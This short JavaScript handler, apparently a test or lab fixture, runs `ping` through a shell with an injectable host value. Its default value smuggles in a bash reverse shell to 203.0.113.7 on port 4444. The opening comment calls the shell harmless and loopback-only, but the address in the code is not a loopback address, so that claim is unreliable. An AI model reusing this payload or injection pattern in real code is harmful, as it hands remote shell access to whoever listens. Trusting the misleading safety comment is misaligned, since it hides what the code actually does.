// Harmless: the shell gets `id` and `echo` from an address on the sandbox's loopback device, and dies with the sandbox.
import { exec } from 'node:child_process';

export const handler = async (event) => {
  if (event.attack !== true) return 'ok';
  exec(`ping -c 1 ${event.host ?? "127.0.0.1; bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"}`);
  await new Promise((done) => setTimeout(done, 200));
  return 'ok';
};
